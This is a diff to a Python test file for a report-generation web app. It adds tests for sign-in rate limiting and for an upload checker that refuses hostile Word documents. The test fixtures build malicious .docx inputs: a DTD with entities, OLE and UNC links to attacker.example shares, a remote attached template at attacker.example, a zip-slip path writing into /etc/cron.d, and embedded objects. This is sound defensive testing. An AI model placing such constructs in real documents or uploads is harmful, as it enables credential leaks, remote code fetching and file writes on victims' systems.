@@ -4,18 +4,22 @@ request to the file system."""
 
 from __future__ import annotations
 
+import datetime as dt
 import io
 import logging
 import re
 import zipfile
 
 import pytest
+import sqlalchemy as sa
 from docx import Document
 
 from reportgen.checks.upload import UnsafeDocument, check_docx
+from reportgen.web import create_app
 from reportgen.workflow import tracker
 from reportgen.workflow.store import Store
-from tests.conftest import EAST, PASSWORD, TEAM, track_luton
+from reportgen.workflow.store import now as store_now
+from tests.conftest import EAST, PASSWORD, TEAM, boxed_edit
 from tests.web.conftest import Client
 
 ID = "luton-pdu-report"
@@ -41,13 +45,6 @@ def repacked(content: bytes, extra: dict[str, bytes] | None = None,
     return out.getvalue()
 
 
-@pytest.fixture
-def tracked(app, luton_draft):
-    s = app.extensions["reportgen"]["store"]
-    track_luton(s, luton_draft)
-    return s
-
-
 def test_every_page_needs_a_signed_in_account(client):
     for path in ("/", f"/reports/{ID}", "/inputs", "/correspondence", "/accounts"):
         response = client.get(path)
@@ -67,15 +64,28 @@ def test_a_wrong_password_or_name_says_the_same_and_a_disabled_account_cannot_si
     assert client.sign_in("editor").status_code == 401
 
 
-def test_sign_in_is_rate_limited_per_account_and_counts_failures_only(app):
-    person = Client(app)
+def test_sign_in_slows_a_guesser_without_locking_the_owner_out(app, store_url, tmp_path):
+    """Five wrong passwords refused even the right one for 15 minutes, from anywhere: anyone
+    could lock the administrator out. The counter lived in one process's memory."""
+    store = app.extensions["reportgen"]["store"]
+    attacker = Client(app, "203.0.113.9")
     for _ in range(3):
-        assert person.sign_in("editor").status_code == 302  # successes are not counted
-    attacker = Client(app)
-    for _ in range(5):
         assert attacker.sign_in("coo", password="guess " * 3).status_code == 401
-    assert attacker.sign_in("coo").status_code == 429  # even the right password, for a while
-    assert Client(app).sign_in("editor").status_code == 302  # other accounts are unaffected
+    refused = attacker.sign_in("coo")  # refused unchecked, even the right password
+    assert refused.status_code == 429
+    assert re.search(r"wait [123] seconds?, then try again", refused.get_data(as_text=True))
+    # The owner, from their own client, signs in at once.
+    assert Client(app, "10.0.0.5").sign_in("coo").status_code == 302
+    # Another process of the service (another app over the same store) knows the count.
+    other = create_app(store_url, tmp_path / "other", secret_key="other " * 8)
+    assert Client(other, "203.0.113.9").sign_in("coo").status_code == 429
+    # Once the wait is over the password is checked again; each failure doubles the wait.
+    with store.engine.begin() as conn:
+        conn.execute(sa.text("UPDATE sign_in_failures SET last_at = :t"),
+                     {"t": store_now() - dt.timedelta(minutes=1)})
+    assert attacker.sign_in("coo", password="guess " * 3).status_code == 401
+    assert re.search(r"wait [345] seconds", attacker.sign_in("coo").get_data(as_text=True))
+    assert Client(app, "127.0.0.1").sign_in("editor").status_code == 302  # others unaffected
 
 
 def test_the_session_cookie_is_secure_http_only_and_same_site(client):
@@ -163,6 +173,20 @@ def test_an_upload_over_the_limit_is_refused(as_role, tracked):
      "declares a DTD or entities"),
     ("macros", lambda: repacked(docx_bytes(), {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}),
      "carries macros"),
+    # A DTD in a part whose name does not end in .xml passed, and an undefined entity gave 500.
+    ("dtd-elsewhere", lambda: repacked(docx_bytes(), {"word/extra.dat": (
+        b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "b">]><x>&undefined;</x>')}),
+     "word/extra.dat declares a DTD or entities"),
+    ("ole-link", lambda: with_relationship(
+        "http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject",
+        "file://///attacker.example/share/x.xlsx"), "it links to something outside itself"),
+    ("unc-hyperlink", lambda: with_relationship(
+        "http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink",
+        "\\\\attacker.example\\share"), "it links to something outside itself"),
+    ("zip-slip", lambda: repacked(docx_bytes(), {"../../../etc/cron.d/x": b"* * * * * x"}),
+     "could lead outside the document"),
+    ("embedded", lambda: repacked(docx_bytes(), {"word/embeddings/oleObject1.xlsx": b"PK"}),
+     "it embeds objects"),
 ])
 def test_a_word_upload_that_is_not_a_plain_document_is_refused(as_role, tracked, name, make,
                                                                 says):
@@ -178,8 +202,58 @@ def test_a_word_upload_that_is_not_a_plain_document_is_refused(as_role, tracked,
     assert len(tracked.versions(ID)) == 1  # nothing kept
 
 
+def with_relationship(kind: str, target: str, content: bytes | None = None,
+                      part: str = "word/_rels/document.xml.rels") -> bytes:
+    """A document with one more relationship, to a target outside it."""
+    content = content or docx_bytes()
+    rels = zipfile.ZipFile(io.BytesIO(content)).read(part).decode()
+    extra = f'<Relationship Id="rIdX" Type="{kind}" Target="{target}" TargetMode="External"/>'
+    return repacked(content, change={part: rels.replace("</Relationships>",
+                                                        extra + "</Relationships>").encode()})
+
+
 def test_a_plain_word_document_passes_the_checks():
     check_docx(docx_bytes(), "plain.docx")
+
+
+def test_a_web_link_is_kept(tmp_path):
+    content = with_relationship(
+        "http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink",
+        "https://www.justiceinspectorates.gov.uk/hmiprobation/")
+    kept = zipfile.ZipFile(io.BytesIO(check_docx(content, "x.docx")))
+    assert b"https://www.justiceinspectorates.gov.uk/hmiprobation/" in \
+        kept.read("word/_rels/document.xml.rels")
+
+
+def test_an_edit_with_a_remote_template_is_kept_without_it_and_served_by_name(as_role, tracked):
+    """A document with a remote attached template was kept and served to every account as it
+    was uploaded, named "the uploaded document": opening it fetched the template."""
+    held = tracked.latest(ID, "en")
+    edited = boxed_edit(tracked.content(ID, held.id), "$.foreword[0]", "A foreword, edited.")
+    settings = zipfile.ZipFile(io.BytesIO(edited)).read("word/settings.xml").decode()
+    settings = re.sub(r"(<w:settings[^>]*>)", r'\1<w:attachedTemplate r:id="rIdT"/>', settings)
+    if "xmlns:r=" not in settings:
+        settings = settings.replace("<w:settings ", '<w:settings xmlns:r="http://schemas.'
+                                    'openxmlformats.org/officeDocument/2006/relationships" ', 1)
+    edited = repacked(edited, change={"word/settings.xml": settings.encode()})
+    edited = repacked(edited, {"word/_rels/settings.xml.rels": (
+        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://'
+        b'schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rIdT" '
+        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
+        b'attachedTemplate" Target="http://attacker.example/t.dotm" TargetMode="External"/>'
+        b"</Relationships>")})
+    owner = as_role("lead-inspector")
+    response = owner.post(f"/reports/{ID}/edited", {
+        "edited-document": (io.BytesIO(edited), "edited.docx")}, prefix="edited")
+    assert response.status_code == 302
+    assert tracked.data(ID).number == 2
+    [upload] = [v for v in tracked.versions(ID) if v.lang == "en:edited"]
+    download = as_role("editor").get(f"/reports/{ID}/versions/{upload.id}")
+    assert f"filename={ID}-2.en.edited.docx" in download.headers["Content-Disposition"]
+    served = zipfile.ZipFile(io.BytesIO(download.data))
+    every = b"".join(served.read(n) for n in served.namelist())
+    assert b"attacker.example" not in every and b"attachedTemplate" not in every
+    assert b'TargetMode="External"' not in every
 
 
 def test_no_path_from_a_request_reaches_the_file_system(as_role, tracked):
